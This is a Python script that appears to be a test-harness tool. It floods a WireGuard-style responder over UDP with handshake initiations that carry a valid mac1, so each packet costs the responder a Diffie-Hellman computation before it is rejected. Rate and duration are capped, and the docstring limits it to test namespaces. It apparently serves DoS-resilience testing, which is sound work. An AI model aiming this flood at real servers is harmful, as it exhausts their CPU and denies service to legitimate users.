#!/usr/bin/env python3
"""hsflood.py - a flood of handshake initiations with a VALID mac1.

    hsflood.py SRC HOST PORT PUBKEY SECONDS RATE READYFILE

Sends initiations to HOST:PORT (UDP) from address SRC at up to RATE per
second for SECONDS, then prints "sent=N seconds=S".  mac1 is computed for the
responder's public key PUBKEY (base64), as anyone who knows that public key
can: every packet passes the cheap check and costs the responder a
Diffie-Hellman before it fails (random ephemeral and encrypted static).
Bounded: RATE <= 200000, SECONDS <= 30.  Test namespaces only.
"""
import base64
import hashlib
import os
import socket
import sys
import time


def mac1_key(pub):
    return hashlib.blake2s(b"mac1----" + pub).digest()


def initiation(key):
    body = bytes([1, 0, 0, 0]) + os.urandom(4 + 32 + 48 + 28)   # 116 bytes
    return body + hashlib.blake2s(body, key=key, digest_size=16).digest() + bytes(16)


def main():
    src, host, port, pub, secs, rate, ready = sys.argv[1:8]
    port, secs, rate = int(port), float(secs), int(rate)
    if not (0 < rate <= 200000 and 0 < secs <= 30):
        sys.exit("rate 1..200000, seconds 1..30")
    key = mac1_key(base64.b64decode(pub))
    pkts = [initiation(key) for _ in range(1024)]
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((src, 0))
    s.connect((host, port))
    s.setblocking(False)
    open(ready, "w").close()
    sent, i, t0 = 0, 0, time.monotonic()
    end = t0 + secs
    per_tick = max(1, rate // 1000)       # paced per millisecond
    while True:
        now = time.monotonic()
        if now >= end:
            break
        allowed = int((now - t0) * rate) - sent
        for _ in range(min(allowed, per_tick * 10)):
            try:
                s.send(pkts[i])
            except (BlockingIOError, ConnectionRefusedError):
                pass
            i = (i + 1) & 1023
            sent += 1
        if allowed <= 0:
            time.sleep(0.0005)
    print(f"sent={sent} seconds={time.monotonic() - t0:.1f}", flush=True)


if __name__ == "__main__":
    main()
